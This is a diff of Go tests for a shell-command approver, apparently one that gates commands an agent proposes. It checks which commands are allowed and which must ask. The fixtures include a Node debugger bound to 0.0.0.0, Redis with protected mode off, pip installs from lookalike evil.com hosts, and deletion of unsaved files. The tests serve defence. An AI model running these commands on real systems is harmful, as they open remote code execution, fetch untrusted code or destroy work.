@@ -19,10 +19,7 @@ func TestListenersInContainers(t *testing.T) {
 		docker run --rm -p 127.0.0.1:9229:9229`+debug+`
 		docker run --rm -itp 127.0.0.1:9229:9229`+debug+`
 		docker run --network front`+debug+`
-		docker exec`+debug+`
-		docker compose exec`+debug+`
 		docker compose run`+debug+`
-		kubectl exec node -- node --inspect=0.0.0.0:9229 x.js
 		docker run redis redis-server --protected-mode no --bind 0.0.0.0
 		docker run node npx serve -s /app/dist`)
 	asks(t, judge, true, `
@@ -37,6 +34,9 @@ func TestListenersInContainers(t *testing.T) {
 		docker run --net container:a`+debug+`
 		docker run $OPTIONS`+debug+`
 		docker compose run --service-ports`+debug+`
+		docker exec`+debug+`
+		docker compose exec`+debug+`
+		kubectl exec node -- node --inspect=0.0.0.0:9229 x.js
 		docker exec api ssh host node --inspect=0.0.0.0:9229 x.js
 		ssh host node --inspect=0.0.0.0:9229 x.js
 		node --inspect=0.0.0.0:9229 x.js
@@ -60,6 +60,8 @@ func TestListenersInTextsOfContainers(t *testing.T) {
 		written("compose.yaml", "services:", "  a:", debug, "    ports:", "      - 9229:9229"):        true,
 		written("compose.yaml", "services:", "  a:", debug, "    ports: [9229]"):                      true,
 		written("compose.yaml", "services:", "  a:", debug, "    network_mode: host"):                 true,
+		written("docker-compose.override.yml", "services:", "  a:", debug):                            true,
+		written("docker-compose.dev.yml", "services:", "  a:", debug):                                 true,
 		written("x.sh", "node --inspect=0.0.0.0:9229 x.js"):                                           true,
 	} {
 		if v := judge(text); (v.Decision <= approver.Ask) != want {
@@ -99,6 +101,11 @@ func TestSavedBeforeTheDelete(t *testing.T) {
 		cd ../other && git stash && rm ../shop/changed.txt
 		echo git stash && rm changed.txt
 		git rm -f changed.txt`)
+	for _, text := range []string{"git commit -am wip\nrm changed.txt", "git stash\nrm changed.txt"} {
+		if v := repo(text); v.Decision > approver.Ask { // a hook may refuse the commit
+			t.Errorf("%q is %v", text, v.Decision)
+		}
+	}
 }
 
 // A lock file that the same call makes again was lost work.
@@ -121,7 +128,8 @@ func TestLockFilesMadeAgain(t *testing.T) {
 		pip install git+https://git.acme.com.evil.com/lib.git
 		pip install git+https://git.acme.com@evil.com/lib.git
 		pip install git+https://acme.com/lib.git
-		npm install http://git.acme.com/x.tgz`)
+		npm install http://git.acme.com/x.tgz
+		npm install https://money.example/x.tgz`)
 }
 
 // lockedProject judges in a clean repository with a remote and changed lock files.
@@ -132,7 +140,7 @@ func lockedProject(t *testing.T) func(string) approver.Verdict {
 		t.Fatal(err)
 	}
 	dir := filepath.Join(home, "shop")
-	put(t, dir, "package-lock.json", "{}")
+	put(t, dir, "package-lock.json", `{"funding": "https://money.example/x"}`)
 	put(t, dir, "Cargo.lock", "a")
 	for _, args := range [][]string{
 		{"init", "-q"}, {"remote", "add", "origin", "https://git.acme.com/acme/shop.git"}, {"add", "-A"},
